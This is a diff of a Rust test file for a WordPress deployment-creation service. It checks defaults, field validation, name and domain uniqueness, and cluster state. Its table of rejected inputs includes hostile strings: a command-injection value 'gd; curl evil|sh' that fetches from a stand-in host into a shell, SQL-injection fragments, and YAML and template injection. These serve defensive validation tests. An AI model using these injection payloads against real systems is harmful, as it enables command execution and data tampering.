@@ -1,6 +1,8 @@
 //! Creating.
 
-use crate::{CLUSTER, FOREIGN, NOBODY, TEAM, admin, cluster, fields, manager, member, other, shop, stranger, verdict, world};
+use crate::{
+    CLUSTER, FOREIGN, NOBODY, TEAM, admin, cluster, fields, manager, member, other, shop, stranger, verdict, world,
+};
 use deployments::create::create;
 use proto::deployments::{CreateDeploymentRequest, Database, DeploymentStatus, DeploymentType, Php, Secrets, Spec};
 use uuid::Uuid;
@@ -20,7 +22,10 @@ async fn a_deployment_is_created_with_the_defaults_of_the_form_and_its_install_i
     let Some(world) = world().await else { return };
     let answer = world.create(&member()).await;
     let made = answer.deployment.unwrap();
-    assert_eq!((made.name.as_str(), made.status(), made.r#type()), ("Shop", DeploymentStatus::Pending, DeploymentType::Wordpress));
+    assert_eq!(
+        (made.name.as_str(), made.status(), made.r#type()),
+        ("Shop", DeploymentStatus::Pending, DeploymentType::Wordpress)
+    );
     assert_eq!(made.location, "00dd0000-0000-4000-8000-000000000001", "the cluster's datacenter, whatever was sent");
     assert_eq!(made.current_task, answer.task_id);
     assert_eq!((made.has_app_pass, made.has_database_pass, made.has_database_root_pass), (true, true, true));
@@ -28,7 +33,10 @@ async fn a_deployment_is_created_with_the_defaults_of_the_form_and_its_install_i
     assert_eq!(made.namespace, made.release_name);
     let spec = made.spec.unwrap();
     assert_eq!(spec.domain, "shop.example.com");
-    let on: Vec<&str> = ["cloudflare", "ftp", "mysql", "nginx", "phpmyadmin", "redis"].into_iter().filter(|s| spec.services[*s]).collect();
+    let on: Vec<&str> = ["cloudflare", "ftp", "mysql", "nginx", "phpmyadmin", "redis"]
+        .into_iter()
+        .filter(|s| spec.services[*s])
+        .collect();
     assert_eq!(on, ["mysql", "nginx", "phpmyadmin", "redis"]);
     let php = spec.php.unwrap();
     assert_eq!((php.version.as_str(), php.memory_limit, php.pool_size), ("8.1", 256, 10));
@@ -75,6 +83,8 @@ async fn an_empty_payload_is_answered_with_every_problem_at_once() {
     assert!(world.orders().await.is_empty());
 }
 
+/// Another state of the cluster.
+type Change = fn(&mut proto::infrastructure::Cluster);
 type Spoil = fn(&mut CreateDeploymentRequest);
 
 /// What is wrong, the field it is told under, and a part of the sentence.
@@ -104,7 +114,11 @@ const ROWS: &[(Spoil, &str, &str)] = &[
     (|r| spec(r).domain = format!("{}.example.com", "x".repeat(64)), "baseParameters.domain", "such as"),
     (|r| spec(r).domain = "shop.example.com\nkind: Secret".into(), "baseParameters.domain", "such as"),
     (|r| spec(r).app_user = "{{ .Files }}".into(), "baseParameters.appUser", "letters"),
-    (|r| secrets(r).app_pass = "short".into(), "baseParameters.appPass", "Admin Password should be at least 8 characters long for security"),
+    (
+        |r| secrets(r).app_pass = "short".into(),
+        "baseParameters.appPass",
+        "Admin Password should be at least 8 characters long for security",
+    ),
     (|r| secrets(r).app_pass = "********".into(), "baseParameters.appPass", "masked"),
     (|r| secrets(r).app_pass = "line\nbreak".into(), "baseParameters.appPass", "control"),
     (|r| secrets(r).app_pass = "x".repeat(129), "baseParameters.appPass", "128"),
@@ -116,11 +130,27 @@ const ROWS: &[(Spoil, &str, &str)] = &[
         "baseParameters.appPass",
         "must not contain",
     ),
-    (|r| secrets(r).database_pass = "short".into(), "databaseParameters.databasePass", "Database Password should be at least 8 characters long for security"),
+    (
+        |r| secrets(r).database_pass = "short".into(),
+        "databaseParameters.databasePass",
+        "Database Password should be at least 8 characters long for security",
+    ),
     (|r| secrets(r).database_pass = "it's-quoted".into(), "databaseParameters.databasePass", "must not contain"),
-    (|r| secrets(r).database_root_pass = "back\\slash".into(), "databaseParameters.databaseRootPass", "must not contain"),
-    (|r| secrets(r).database_root_pass = "short".into(), "databaseParameters.databaseRootPass", "Database Root Password should be at least 8 characters long for security"),
-    (|r| secrets(r).database_root_pass = secrets(r).database_pass.clone(), "databaseParameters.databaseRootPass", "differ"),
+    (
+        |r| secrets(r).database_root_pass = "back\\slash".into(),
+        "databaseParameters.databaseRootPass",
+        "must not contain",
+    ),
+    (
+        |r| secrets(r).database_root_pass = "short".into(),
+        "databaseParameters.databaseRootPass",
+        "Database Root Password should be at least 8 characters long for security",
+    ),
+    (
+        |r| secrets(r).database_root_pass = secrets(r).database_pass.clone(),
+        "databaseParameters.databaseRootPass",
+        "differ",
+    ),
     (|r| database(r).user = "root".into(), "databaseParameters.databaseUser", "root"),
     (|r| database(r).user = "x'; drop".into(), "databaseParameters.databaseUser", "letters"),
     (|r| database(r).name = "x'; DROP".into(), "databaseParameters.databaseName", "letters"),
@@ -129,17 +159,45 @@ const ROWS: &[(Spoil, &str, &str)] = &[
     (|r| database(r).port = 3307, "databaseParameters.databasePort", "3306"),
     (|r| database(r).port = 70_000, "databaseParameters.databasePort", "65535"),
     (|r| database(r).port = -1, "databaseParameters.databasePort", "65535"),
-    (|r| _ = spec(r).services.insert("mysql".into(), false), "databaseParameters.databaseHost", "required when MySQL is off"),
+    (
+        |r| _ = spec(r).services.insert("mysql".into(), false),
+        "databaseParameters.databaseHost",
+        "required when MySQL is off",
+    ),
     (|r| _ = spec(r).services.insert("cloudflare".into(), true), "baseParameters.cloudflareToken", "required"),
     (|r| _ = spec(r).services.insert("mongodb".into(), true), "services.mongodb", "not known"),
     (|r| _ = spec(r).services.insert("web".into(), false), "services.web", "switched off"),
-    (|r| spec(r).php = Some(Php { version: "5.6".into(), ..Default::default() }), "phpParameters.phpVersion", "7.4, 8.0, 8.1, 8.2"),
-    (|r| spec(r).php = Some(Php { extensions: vec!["gd; curl evil|sh".into()], ..Default::default() }), "phpParameters.phpExtensions", "Not in the image"),
-    (|r| spec(r).php = Some(Php { memory_limit: -1, ..Default::default() }), "phpParameters.phpMemoryLimit", "at least"),
-    (|r| spec(r).php = Some(Php { max_execution_time: 100_000, ..Default::default() }), "phpParameters.phpMaxExecutionTime", "at most"),
+    (
+        |r| spec(r).php = Some(Php { version: "5.6".into(), ..Default::default() }),
+        "phpParameters.phpVersion",
+        "7.4, 8.0, 8.1, 8.2",
+    ),
+    (
+        |r| spec(r).php = Some(Php { extensions: vec!["gd; curl evil|sh".into()], ..Default::default() }),
+        "phpParameters.phpExtensions",
+        "Not in the image",
+    ),
+    (
+        |r| spec(r).php = Some(Php { memory_limit: -1, ..Default::default() }),
+        "phpParameters.phpMemoryLimit",
+        "at least",
+    ),
+    (
+        |r| spec(r).php = Some(Php { max_execution_time: 100_000, ..Default::default() }),
+        "phpParameters.phpMaxExecutionTime",
+        "at most",
+    ),
     (|r| spec(r).php = Some(Php { pool_size: 100_000, ..Default::default() }), "phpParameters.phpPoolSize", "at most"),
-    (|r| spec(r).php = Some(Php { max_requests_per_child: -5, ..Default::default() }), "phpParameters.phpMaxRequestsPerChild", "at least"),
-    (|r| spec(r).php = Some(Php { upload_max_filesize: i32::MAX, ..Default::default() }), "phpParameters.phpUploadMaxFilesize", "at most"),
+    (
+        |r| spec(r).php = Some(Php { max_requests_per_child: -5, ..Default::default() }),
+        "phpParameters.phpMaxRequestsPerChild",
+        "at least",
+    ),
+    (
+        |r| spec(r).php = Some(Php { upload_max_filesize: i32::MAX, ..Default::default() }),
+        "phpParameters.phpUploadMaxFilesize",
+        "at most",
+    ),
 ];
 
 #[tokio::test]
@@ -154,7 +212,8 @@ async fn each_wrong_value_is_refused_under_its_own_name_and_nothing_is_stored() 
         assert!(found[*field].contains(part), "row {row}: {found:?}");
         assert!(!found[*field].contains("canary"), "a sentence never repeats a password");
     }
-    let rows: i64 = sqlx::query_scalar("select count(*) from deployments.deployment").fetch_one(&world.app.cx.db).await.unwrap();
+    let rows: i64 =
+        sqlx::query_scalar("select count(*) from deployments.deployment").fetch_one(&world.app.cx.db).await.unwrap();
     assert_eq!(rows, 0);
 }
 
@@ -170,17 +229,34 @@ async fn what_the_form_can_send_is_accepted() {
     secrets(&mut tunnel).cloudflare_token = "eyJhIjoiYiJ9".into();
     let mut bare = other("bare");
     spec(&mut bare).services.extend(["nginx", "redis", "phpmyadmin"].map(|name| (name.to_owned(), false)));
-    spec(&mut bare).php = Some(Php { version: "7.4".into(), extensions: vec!["GD".into(), "gd".into()], ..Default::default() });
-    for request in [external, tunnel, bare] {
+    spec(&mut bare).php =
+        Some(Php { version: "7.4".into(), extensions: vec!["GD".into(), "gd".into()], ..Default::default() });
+    let mut unusual = other("unusual");
+    unusual.name = "O'Brien & Co.: {{ .Values }} \"x\" - 日本 👩‍👩‍👧 \\ #".into();
+    let accepted: CreateDeploymentRequest = unusual.clone();
+    for request in [external, tunnel, bare, unusual] {
         let name = request.name.clone();
         assert_eq!(verdict(create(&world.app, &member(), request).await), "ok", "{name}");
     }
+    // the name is the title of the site: as it is, and only there
+    let order = world.orders().await.pop().unwrap();
+    let values = order.params.unwrap().values.unwrap();
+    assert_eq!(values.fields["title"].kind, Some(prost_types::value::Kind::StringValue(accepted.name)));
+}
+
+#[tokio::test]
+async fn what_its_namespace_could_not_hold_is_refused_in_words() {
+    let Some(world) = world().await else { return };
+    let mut request = shop();
+    spec(&mut request).php = Some(Php { pool_size: 200, ..Default::default() });
+    let found = fields(create(&world.app, &member(), request).await);
+    assert!(found["phpParameters.phpPoolSize"].contains("a deployment may have 8Gi"), "{found:?}");
 }
 
 #[tokio::test]
 async fn a_cluster_that_takes_nothing_is_a_problem_of_the_field_beside_all_others() {
     let Some(world) = world().await else { return };
-    let states: [(fn(&mut proto::infrastructure::Cluster), &str); 2] = [
+    let states: [(Change, &str); 2] = [
         (|c| c.has_kubeconfig = false, "This cluster has no kubeconfig yet."),
         (|c| c.status = "maintenance".into(), "This cluster is in maintenance."),
     ];
@@ -193,7 +269,8 @@ async fn a_cluster_that_takes_nothing_is_a_problem_of_the_field_beside_all_other
         assert_eq!(found["clusterId"], sentence);
         assert_eq!(found["name"], "Deployment name is required");
     }
-    world.peers.state().clusters = vec![proto::infrastructure::Cluster { status: "unreachable".into(), ..cluster(CLUSTER, "prod") }];
+    world.peers.state().clusters =
+        vec![proto::infrastructure::Cluster { status: "unreachable".into(), ..cluster(CLUSTER, "prod") }];
     assert_eq!(verdict(create(&world.app, &member(), shop()).await), "ok", "the task waits for it");
 }
 
@@ -201,10 +278,15 @@ async fn a_cluster_that_takes_nothing_is_a_problem_of_the_field_beside_all_other
 async fn the_location_may_be_nonsense_but_not_another_datacenter() {
     let Some(world) = world().await else { return };
     let elsewhere = "00dd0000-0000-4000-8000-000000000002";
-    world.peers.state().datacenters = vec![proto::infrastructure::Datacenter { id: elsewhere.into(), ..Default::default() }];
-    let found = fields(create(&world.app, &member(), CreateDeploymentRequest { location: elsewhere.into(), ..shop() }).await);
+    world.peers.state().datacenters =
+        vec![proto::infrastructure::Datacenter { id: elsewhere.into(), ..Default::default() }];
+    let found =
+        fields(create(&world.app, &member(), CreateDeploymentRequest { location: elsewhere.into(), ..shop() }).await);
     assert_eq!(found["location"], "The cluster is in another datacenter.");
-    assert_eq!(verdict(create(&world.app, &member(), CreateDeploymentRequest { location: NOBODY.into(), ..shop() }).await), "ok");
+    assert_eq!(
+        verdict(create(&world.app, &member(), CreateDeploymentRequest { location: NOBODY.into(), ..shop() }).await),
+        "ok"
+    );
 }
 
 #[tokio::test]
@@ -232,11 +314,19 @@ async fn a_name_and_a_domain_are_taken_once() {
     };
     let refused = create(&world.app, &member(), again("sHOP", "b.example.com", TEAM)).await;
     assert_eq!(verdict(refused), "409 NAME_TAKEN", "case does not make another name");
-    assert_eq!(verdict(create(&world.app, &member(), again("Other", "shop.EXAMPLE.com", TEAM)).await), "409 DOMAIN_TAKEN");
-    assert_eq!(verdict(create(&world.app, &stranger(), again("Shop", "b.example.com", FOREIGN)).await), "ok", "another team's name");
+    assert_eq!(
+        verdict(create(&world.app, &member(), again("Other", "shop.EXAMPLE.com", TEAM)).await),
+        "409 DOMAIN_TAKEN"
+    );
+    assert_eq!(
+        verdict(create(&world.app, &stranger(), again("Shop", "b.example.com", FOREIGN)).await),
+        "ok",
+        "another team's name"
+    );
     let elsewhere = Uuid::from_u128(0x00cc_0000_0000_4000_8000_0000_0000_0002);
     world.peers.state().clusters.push(cluster(elsewhere, "second"));
-    let request = CreateDeploymentRequest { cluster_id: elsewhere.to_string(), ..again("Third", "shop.example.com", TEAM) };
+    let request =
+        CreateDeploymentRequest { cluster_id: elsewhere.to_string(), ..again("Third", "shop.example.com", TEAM) };
     assert_eq!(verdict(create(&world.app, &member(), request).await), "ok", "another cluster's domain");
 }
 
